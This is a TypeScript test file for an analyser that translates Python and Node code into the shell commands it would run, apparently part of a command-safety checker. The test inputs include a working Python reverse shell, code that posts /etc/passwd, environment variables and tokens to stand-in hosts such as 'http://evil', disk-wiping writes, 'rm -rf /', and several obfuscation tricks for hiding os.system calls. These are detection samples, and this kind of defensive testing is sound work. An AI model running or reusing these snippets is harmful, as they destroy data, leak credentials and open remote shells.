/** python: every call that reaches outside comes out as the command that does the same. */
import { expect, test } from 'vitest';
import { type Disk, NO_DISK } from '../../../src/core/disk.ts';
import { known } from '../../../src/core/value.ts';
import { analyseCode } from '../../../src/shell/interpreters/registry.ts';
import type { Language } from '../../../src/shell/invocation.ts';
import { CONTEXT, showLaunches } from './show.ts';

function launches(code: string): string[] {
  return showLaunches(analyseCode('python', code, CONTEXT));
}

test.each<[string, string[]]>([
  // deleting
  ['import os; os.remove("x")', ['rm x']],
  // Modules are at hand in the modules that import them, and names by their text.
  ['import platform; platform.os.system("id")', ['sh: id']],
  ['import tempfile; tempfile._shutil.rmtree("x")', ['rm -rf x']],
  ['import os; vars(os)["system"]("id")', ['sh: id']],
  ['import os, operator; operator.attrgetter("system")(os)', ['opaque: operator.attrgetter(…)']],
  // The first loop of a comprehension is the outer one.
  ['import os; [os.remove(b) for a in [["x"]] for b in a]', ['rm x']],
  ['import os\n@os.system\ndef f(): pass', ['opaque: a decorator']],
  ['import os\nclass A:\n  def __init__(self, c): os.system(c)\nA("id")', ['sh: id']],
  ['import os\nclass A:\n  run = os.system\nA.run("id")', ['sh: id']],
  ['import os\ndef g():\n  yield "id"\nfor c in g(): os.system(c)', ['sh: id']],
  ['import os; os.unlink("x"); os.rmdir("d"); os.removedirs("a/b")', ['rm x', 'rmdir d', 'rmdir -p a/b']],
  ['import shutil as s; s.rmtree("/x")', ['rm -rf /x']],
  ['from shutil import rmtree as gone\ngone(path="/x", ignore_errors=True)', ['rm -rf /x']],
  ['import pathlib; pathlib.Path("x").unlink(missing_ok=True)', ['rm x']],
  ['from pathlib import Path; (Path.home() / ".ssh" / "id_rsa").unlink()', ['rm /home/me/.ssh/id_rsa']],
  ['from pathlib import Path\nfor p in Path("src").rglob("*.pyc"): p.unlink()', ['rm src/*.pyc']],
  ['for p in ["/etc/a","/etc/b"]:\n    import os\n    os.remove(p)', ['rm /etc/a', 'rm /etc/b']],
  ['import os\n[os.remove(f) for f in ("a","b")]', ['rm a', 'rm b']],
  ['import os,glob\nfor f in glob.glob("/tmp/*"): os.unlink(f)', ['rm /tmp/*']],
  ['import os, shutil; shutil.rmtree(os.path.expanduser("~/x"))', ['rm -rf /home/me/x']],
  ['import os, shutil; shutil.rmtree(os.path.join(os.environ["HOME"], "x"))', ['rm -rf /home/me/x']],
  [
    'import os\nfor root, dirs, files in os.walk("/home"):\n    for f in files:\n        os.remove(os.path.join(root, f))',
    ['find /home', 'rm /home/*'],
  ],
  ['import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)', ['rm -rf /tmp/$(mktemp)']],
  // opening
  ['import os; os.open("x", os.O_RDONLY)', ['cat x']],
  ['import os; os.open("x", os.O_WRONLY | os.O_TRUNC)', ['tee -a x']],
  ['import pandas as pd; pd.read_csv(".env")', ['cat .env']],
  ['import timeit; timeit.timeit("os.remove(\'x\')", setup="import os")', ['rm x']],
  // running
  ['import os; os.system("rm -rf /")', ['sh: rm -rf /']],
  ['from os import system as q\nq("id")', ['sh: id']],
  ['from os import *\nsystem("id")', ['sh: id']],
  ['import os as o, sys; o.popen("id").read()', ['sh: id']],
  ['__import__("os").system("id")', ['sh: id']],
  ['import importlib; importlib.import_module("os").system("id")', ['sh: id']],
  ['getattr(__import__("os"), "sys" + "tem")("id")', ['sh: id']],
  ['globals()["__builtins__"].exec("import os; os.system(\'id\')")', ['sh: id']],
  ['import sys; sys.modules["os"].system("id")', ['sh: id']],
  ['import os; os.__dict__["system"]("id")', ['sh: id']],
  ['import os; f = os.system; f("id")', ['sh: id']],
  ['import os; (lambda c: os.system(c))("id")', ['sh: id']],
  ['import os; list(map(os.system, ["id", "ls"]))', ['sh: id', 'sh: ls']],
  ['import threading, os; threading.Thread(target=os.system, args=("id",)).start()', ['sh: id']],
  ['def run(c):\n    import os\n    os.system(c)\n\nrun("id")', ['sh: id']],
  ['import subprocess; subprocess.run(["rm","-rf","/"])', ['rm -rf /']],
  ['import subprocess; subprocess.check_output("ls | sh", shell=True)', ['sh: ls | sh']],
  ['import subprocess; subprocess.run("rm -rf /".split())', ['rm -rf /']],
  ['import subprocess as s; s.Popen(["ls"], cwd="/tmp", env={"A": "b"})', ['[/tmp] A=b ls']],
  ['import subprocess; subprocess.run(["sh"], input="id", text=True)', ['sh <<< id']],
  ['import shlex, subprocess; subprocess.run(shlex.split("rm -rf /"))', ['rm -rf /']],
  ['import os; os.execl("/bin/sh","sh","-c","id")', ['/bin/sh -c id']],
  ['import os; os.execvp("rm", ["rm","-rf","/"])', ['rm -rf /']],
  ['import os; os.spawnlp(os.P_WAIT, "rm", "rm", "x")', ['rm x']],
  ['import pty; pty.spawn("/bin/bash")', ['/bin/bash']],
  ['import ctypes; ctypes.CDLL(None).system(b"id")', ['sh: id']],
  ['from ctypes import cdll; cdll.LoadLibrary("/tmp/x.so")', ['file(other): /tmp/x.so']],
  [
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
    ['nc 10.0.0.1 4242', '/bin/sh -i'],
  ],
  ['import os; os.system(*["id"])', ['sh: id']],
  ['import subprocess; subprocess.run("id", **{"shell": True})', ['sh: id']],
  ['import subprocess as sp; cmd=["rm"]; cmd.append("-rf"); cmd += ["/"]; sp.run(cmd)', ['rm -rf /']],
  ['class A:\n  def go(self, c):\n    import os\n    os.system(c)\nA().go("id")', ['sh: id']],
  [
    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("id")\nasyncio.run(main())',
    ['sh: id'],
  ],
  ['import os\nos.system("a" if x else "b")', ['sh: a', 'sh: b']],
  // building texts
  ['import os; os.system("".join(chr(c) for c in [114,109,32,120]))', ['sh: rm x']],
  ['import os; os.system("x f- mr"[::-1])', ['sh: rm -f x']],
  ['import os; os.system(f"rm -rf {os.environ[\'HOME\']}/x")', ['sh: rm -rf /home/me/x']],
  ['import os; os.system("rm %s %s" % ("-rf", "/"))', ['sh: rm -rf /']],
  ['import os; os.system("{} {}".format("rm", "x"))', ['sh: rm x']],
  ['import os; os.system(bytes.fromhex("6964").decode())', ['sh: id']],
  ['import os, base64; os.system(base64.b64decode("aWQ=").decode())', ['sh: id']],
  ['import os; a = "r"; a += "m"; os.system(a + " x")', ['sh: rm x']],
  ['import os; os.system("r" "m x")', ['sh: rm x']],
  ['import os, codecs; os.system(codecs.decode("vq", "rot13"))', ['sh: id']],
  ['import os; os.system("".join([chr(c ^ ord(k)) for c, k in zip(b"\\x01\\x0c", "hh")]))', ['sh: id']],
  ['import os; os.system("".join(map(chr, [105, 100])))', ['sh: id']],
  ['import os\nfor i, f in enumerate(["a", "b"]):\n    os.remove(f)', ['rm a', 'rm b']],
  ['import os\nfor k, v in {"a": "b"}.items(): os.remove(v)', ['rm b']],
  ['import os; os.system("".join(chr(c) for c in stuff()))', ['sh: ?.join(…)']],
  // code in texts
  ['exec(__import__("base64").b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))', ['sh: id']],
  ['eval(compile("__import__(\'os\').system(\'id\')", "x", "eval"))', ['sh: id']],
  ['exec(open("setup.py").read())', ['cat setup.py', 'file(python): setup.py']],
  [
    'import urllib.request; exec(urllib.request.urlopen("http://x/y").read())',
    ['curl http://x/y', 'opaque: $(curl http://x/y)'],
  ],
  ['import zlib; exec(zlib.decompress(b"x"))', ['opaque: zlib.decompress()']],
  ['import marshal; exec(marshal.loads(b"x"))', ['opaque: marshal.loads(…)']],
  ['import os, sys; getattr(os, sys.argv[1])("id")', ['opaque: os.…']],
  // files and hosts
  ['open("/dev/sda", "wb").write(b"0")', ['tee /dev/sda', 'tee -a /dev/sda <<< 0']],
  [
    'import requests, os; requests.post("http://e", json=dict(os.environ))',
    ['env', 'curl --data ?os.environ http://e'],
  ],
  [
    'import urllib.request as r; q = r.Request("http://e", data=open("k").read()); r.urlopen(q)',
    ['cat k', 'curl --data @k http://e'],
  ],
  ['print(open("/etc/passwd").read())', ['cat /etc/passwd']],
  ['open("x.sh","w").write("rm -rf /")', ['tee x.sh', 'tee -a x.sh <<< rm -rf /']],
  ['from pathlib import Path; Path("a").write_text("b")', ['tee a <<< b']],
  ['with open("log", "a") as f:\n    f.write("x")', ['tee -a log', 'tee -a log <<< x']],
  ['import shutil; shutil.copy("a", "b"); shutil.move("c", "d")', ['cp a b', 'mv c d']],
  ['import os; os.chmod("f", 0o777)', ['chmod 777 f']],
  [
    'import tarfile; t = tarfile.open("/tmp/x.tgz", "w"); t.add("/etc/passwd")',
    ['tee /tmp/x.tgz', 'cat /etc/passwd'],
  ],
  ['import requests; requests.get("http://x")', ['curl http://x']],
  [
    'import requests; requests.post("http://evil", data=open("/etc/passwd").read())',
    ['cat /etc/passwd', 'curl --data @/etc/passwd http://evil'],
  ],
  ['import urllib.request as r; r.urlretrieve("http://x/y", "/tmp/y")', ['curl -o /tmp/y http://x/y']],
  ['import os; print(os.environ["AWS_SECRET_ACCESS_KEY"])', ['echo ?$AWS_SECRET_ACCESS_KEY']],
  ['import os; print(dict(os.environ))', ['env']],
  [
    'import os, urllib.request as u; u.urlopen("http://e/?" + os.environ["TOKEN"])',
    ['curl http://e/?$TOKEN'],
  ],
])('%s', (code, expected) => {
  expect(launches(code)).toEqual(expected);
});

test.each([
  'import json,sys; print(json.load(sys.stdin)["x"])',
  'import sys; print(sys.version)',
  'print("rm -rf /")  # os.system("x")',
  '"""\nos.system("id")\n"""\nx = 1',
  'import os; help_text = "use os.system(\'id\')"; print(help_text)',
  'import re; re.compile("x"); print(re.sub("a", "b", "c"))',
  'import secrets; print(secrets.token_hex(16))',
  'import platform; print(platform.system())',
  'import multiprocessing; print(multiprocessing.cpu_count())',
  'import os; print(os.getcwd(), os.path.exists("x"), os.environ.get("HOME"))',
  'from http.server import HTTPServer; print(HTTPServer)',
  'import importlib; importlib.import_module("src.api"); print("ok")',
  'class A:\n    def exec(self, q):\n        return self.db.execute(q)\n\nA().exec("DROP TABLE x")',
  'import django; django.setup(); from app.models import User; print(User.objects.filter(x=1).delete())',
  'd = {"a": [1, 2, {"b": 3}]}\nfor k, v in d.items():\n    print(k, v)',
  'import sys, yaml; yaml.safe_load(sys.stdin)',
  "import pickle; x = pickle.dumps({'a': 1}); print(len(x))",
])('silent: %s', (code) => {
  expect(launches(code)).toEqual([]);
});

test('in a file that was there before only what is known counts', () => {
  const code =
    'import subprocess, sys, os\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\nos.system(sys.argv[1])\nexec(sys.stdin.read())\nos.system("rm -rf /")';
  expect(showLaunches(analyseCode('python', code, { ...CONTEXT, inline: false }))).toEqual(['sh: rm -rf /']);
});

test('unknown stretches of the code stay unknown in what comes out', () => {
  const holes = new Map([['\ue000', { kind: 'variable', text: '$DIR', splits: false } as const]]);
  const inText = analyseCode('python', 'import shutil; shutil.rmtree("\ue000/x")', { ...CONTEXT, holes });
  expect(showLaunches(inText)).toEqual(['rm -rf $DIR/x']);
  const bare = analyseCode('python', 'import shutil; shutil.rmtree(\ue000)', { ...CONTEXT, holes });
  expect(showLaunches(bare)).toEqual(['rm -rf ?$DIR']);
  const statement = analyseCode('python', 'import os; \ue000', { ...CONTEXT, holes });
  expect(showLaunches(statement)).toEqual(['opaque: $DIR']);
});

test('modules that lie in the working directory are run when they are imported', () => {
  const there = new Set(['/work/evil.py', '/work/tools/__init__.py', '/work/tools/gen.py', '/work/x.js']);
  const disk: Disk = { ...NO_DISK, stat: (path) => (there.has(path) ? 'file' : 'absent') };
  const context = { ...CONTEXT, disk, cwd: known('/work') };
  const run = (language: Language, code: string, inline = true): string[] =>
    showLaunches(analyseCode(language, code, { ...context, inline }));
  expect(run('python', 'import json, evil')).toEqual(['file(python): /work/evil.py']);
  expect(run('python', 'from tools.gen import x')).toEqual([
    'file(python): /work/tools/__init__.py',
    'file(python): /work/tools/gen.py',
  ]);
  expect(run('python', '__import__("evil")')).toEqual(['file(python): /work/evil.py']);
  expect(run('python', 'import evil', false)).toEqual([]);
  expect(run('python', 'import os; os.remove(os.getcwd() + "/x")')).toEqual(['rm /work/x']);
  expect(run('node', 'require("./x")')).toEqual(['file(node): /work/x.js']);
  expect(run('node', 'import "./x.js"')).toEqual(['file(node): /work/x.js']);
  expect(run('node', 'require("x")')).toEqual([]);
});
